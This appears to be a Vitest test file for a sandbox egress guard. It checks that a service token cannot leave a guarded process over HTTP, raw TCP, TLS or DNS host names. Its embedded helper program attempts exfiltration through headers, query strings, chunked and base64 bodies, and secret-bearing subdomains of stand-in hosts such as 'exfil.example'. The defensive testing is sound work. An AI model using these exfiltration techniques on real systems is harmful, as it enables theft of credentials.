import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { createServer as createSecureServer } from 'node:tls';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { NetworkDeed } from '../../../model/behaviour.ts';
import type { StdioTarget } from '../../../model/target.ts';
import type { Witness } from '../../../model/witness.ts';
import { makeAuthority } from '../../../world/egress/authority.ts';
import { sandboxes } from '../../../world/sandboxes/index.ts';
import { NOTHING_GRANTED } from './testing/nothing-granted.ts';
import { openWatched } from './index.ts';

/** Sends in a named way for each line, and answers when it is done or cut off. */
const PROGRAM = `
const net = require('net'), tls = require('tls'), http = require('http');
const nap = () => new Promise((done) => setTimeout(done, 40));
const raw = async (socket, pieces) => {
  let said = '';
  const over = new Promise((done) => { socket.on('data', (d) => (said += d)).on('error', (e) => done(e.code)).on('close', () => done(said || 'closed')); });
  for (const piece of pieces) { socket.write(piece); await nap(); }
  setTimeout(() => socket.end(), 1000);
  return over;
};
const deeds = {
  post: (url, headers, ...pieces) => new Promise((done) => {
    const request = http.request(url, { method: 'POST', headers }, (answer) => answer.resume().on('end', () => done('answered')));
    request.on('error', (error) => done(error.code));
    (async () => { for (const piece of pieces) { request.write(piece); await nap(); } request.end(); })();
  }),
  tcp: (host, port, ...pieces) => raw(net.connect(port, host), pieces),
  tls: (host, port, ...pieces) => raw(tls.connect({ port, host, servername: host }), pieces),
};
require('readline').createInterface({ input: process.stdin }).on('line', async (line) => {
  const [deed, ...args] = JSON.parse(line);
  console.log(JSON.stringify(String(await deeds[deed](...args))));
});
if (process.argv.includes('--at-start')) deeds.post('http://early.example:' + process.argv.at(-1) + '/', {}, process.env.SERVICE_TOKEN).catch(() => {});
console.log('"ready"');
`;

const SECRET = 'kq7-Zz81mmPq02-Lw94';
const sandbox = sandboxes.find(({ name }) => name === 'bubblewrap');
const missing = await sandbox?.missing();
if (missing !== undefined) console.error(`NOT RUN: what leaves a guarded server: ${missing}`);

let ground: string;
/** All that arrived outside, over any of the three servers. */
let arrived = '';
const close: (() => void)[] = [];
const ports = { http: 0, tcp: 0, tls: 0 };

beforeAll(async () => {
  ground = mkdtempSync(join(tmpdir(), 'leaving-'));
  chmodSync(ground, 0o755);
  writeFileSync(join(ground, 'server.cjs'), PROGRAM);
  const hear = (socket: Socket): void => {
    socket.on('error', () => {});
    socket.on('data', (chunk: Buffer) => {
      arrived += chunk.toString();
      if (/(?:plain|secret) words$/.test(arrived)) socket.end('heard');
    });
  };
  const web = createHttpServer((request, response) => {
    arrived += `${request.url} ${request.rawHeaders.join(' ')}`;
    request.on('data', (chunk: Buffer) => (arrived += chunk.toString()));
    request.on('error', () => {});
    request.on('end', () => response.end('ok'));
  });
  const plain = createServer(hear);
  const secure = createSecureServer({ SNICallback: (name, done) => done(null, makeAuthority().contextFor(name)) }, hear);
  for (const [name, server] of [
    ['http', web],
    ['tcp', plain],
    ['tls', secure],
  ] as const) {
    await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
    ports[name] = (server.address() as AddressInfo).port;
    close.push(() => server.close());
  }
});
afterAll(() => {
  for (const each of close) each();
  rmSync(ground, { recursive: true, force: true });
});

async function guarded(decide: (deed: NetworkDeed, witnesses: readonly Witness[]) => 'pass' | 'cut', args: readonly string[] = []) {
  if (sandbox === undefined) throw new Error('no sandbox');
  const names: string[] = [];
  const target: StdioTarget = {
    kind: 'stdio',
    label: 'leaving',
    command: 'node',
    // The address of this machine is named, so that names which lead to it may be dialled.
    args: [join(ground, 'server.cjs'), '--upstream=http://127.0.0.1', ...args],
    cwd: undefined,
    env: ['SERVICE_TOKEN'],
  };
  const watched = await openWatched(target, new Map([['env:SERVICE_TOKEN', SECRET]]), {
    sandbox,
    cache: join(ground, 'cache'),
    ...NOTHING_GRANTED,
    lookup: async (name) => (names.push(name), ['127.0.0.1']),
  });
  const lines = createInterface({ input: watched.process.stdout })[Symbol.asyncIterator]();
  const next = async (): Promise<string> => JSON.parse(String((await lines.next()).value)) as string;
  await next();
  arrived = '';
  return {
    watched,
    names,
    attach: () => watched.watch.onLeaving({ known: () => [], decide }),
    async ask(...words: unknown[]) {
      arrived = '';
      watched.process.stdin.write(`${JSON.stringify(words)}\n`);
      return next();
    },
    [Symbol.asyncDispose]: () => watched[Symbol.asyncDispose](),
  };
}

describe.skipIf(missing !== undefined)('a secret that is about to leave', () => {
  test('does not, over HTTP, raw TCP and TLS, in one piece and in several; other words do', async () => {
    process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0';
    try {
      const seen: string[] = [];
      await using server = await guarded((_, [witness]) => (seen.push(witness?.address ?? ''), 'cut'));
      server.attach();
      const url = `http://a.example:${ports.http}`;
      const half = [SECRET.slice(0, 9), SECRET.slice(9)];
      const cases: readonly (readonly [string, readonly unknown[]])[] = [
        ['a header', ['post', `${url}/x`, { 'x-note': SECRET }, 'body']],
        ['the address', ['post', `${url}/x?d=${encodeURIComponent(SECRET)}`, {}, 'body']],
        ['a body', ['post', `${url}/x`, {}, `text ${SECRET} text`]],
        ['a body in chunks', ['post', `${url}/x`, {}, ...half]],
        ['a body in chunks of three letters', ['post', `${url}/x`, {}, ...(SECRET.match(/.{1,3}/g) ?? [])]],
        ['encoded', ['post', `${url}/x`, {}, Buffer.from(`token: ${SECRET}`).toString('base64')]],
        ['raw', ['tcp', 'b.example', ports.tcp, `words ${SECRET}`]],
        ['raw in two writes', ['tcp', 'b.example', ports.tcp, `words ${half[0]}`, half[1]]],
        ['raw in single letters', ['tcp', 'b.example', ports.tcp, ...SECRET.split('')]],
        ['TLS', ['tls', 'c.example', ports.tls, `words ${SECRET}`]],
        ['TLS in two writes', ['tls', 'c.example', ports.tls, half[0], half[1]]],
      ];
      for (const [name, words] of cases) {
        const before = seen.length;
        expect(await server.ask(...words), name).not.toMatch(/answered|heard/);
        expect(seen.length, name).toBeGreaterThan(before);
        // No three pieces of it in a row, let alone the whole.
        for (let at = 0; at + 9 <= SECRET.length; at += 1) expect(arrived.replace(/\s/g, ''), name).not.toContain(SECRET.slice(at, at + 9));
      }
      expect(await server.ask('post', `${url}/x`, { 'x-note': 'nothing' }, 'kq7', ' other words')).toBe('answered');
      expect(arrived).toContain('kq7 other words');
      expect(await server.ask('tcp', 'b.example', ports.tcp, 'plain words')).toBe('heard');
      expect(await server.ask('tls', 'c.example', ports.tls, 'secret words')).toBe('heard');
      expect(arrived).toBe('secret words');
      const told = (await server.watched.watch.take()).network.filter(({ outcome }) => outcome === 'refused');
      expect(told.length).toBeGreaterThanOrEqual(cases.length);
    } finally {
      delete process.env['NODE_TLS_REJECT_UNAUTHORIZED'];
    }
  }, 60_000);

  test('in the name of a host is not even looked up, nor when it is cut over several names or several requests', async () => {
    await using server = await guarded(() => 'cut');
    server.attach();
    const named = SECRET.toLowerCase();
    await server.ask('post', `http://${named}.exfil.example:${ports.http}/`, {}, 'x');
    expect(server.names).toEqual([]);
    const thirds = named.match(/.{1,7}/g) ?? [];
    for (const third of thirds) await server.ask('post', `http://${third.replaceAll('-', '')}.t.example:${ports.http}/`, {}, 'x');
    expect(server.names).toEqual([`${thirds[0]?.replaceAll('-', '')}.t.example`]);
    const answers: string[] = [];
    for (const third of SECRET.match(/.{1,7}/g) ?? [])
      answers.push(await server.ask('post', `http://a.example:${ports.http}/p?part=${third}`, {}, 'x'));
    expect(answers[0]).toBe('answered');
    expect(answers.slice(1)).not.toContain('answered');
  }, 60_000);

  test('where it belongs, it does', async () => {
    const asked: [string | undefined, string | undefined][] = [];
    await using server = await guarded((deed, [witness]) => (asked.push([deed.host, witness?.seed]), 'pass'));
    server.attach();
    expect(await server.ask('post', `http://a.example:${ports.http}/x`, { authorization: `Bearer ${SECRET}` }, 'body')).toBe('answered');
    expect(arrived).toContain(SECRET);
    expect(asked).toContainEqual(['a.example', 'env:SERVICE_TOKEN']);
  }, 30_000);

  test('waits for somebody who decides', async () => {
    await using server = await guarded(() => 'cut', ['--at-start', String(ports.http)]);
    await new Promise((resolve) => setTimeout(resolve, 700));
    expect([arrived, server.names]).toEqual(['', []]);
    server.attach();
    await expect.poll(() => server.names).toEqual(['early.example']);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(arrived).not.toContain(SECRET.slice(0, 9));
  }, 30_000);
});
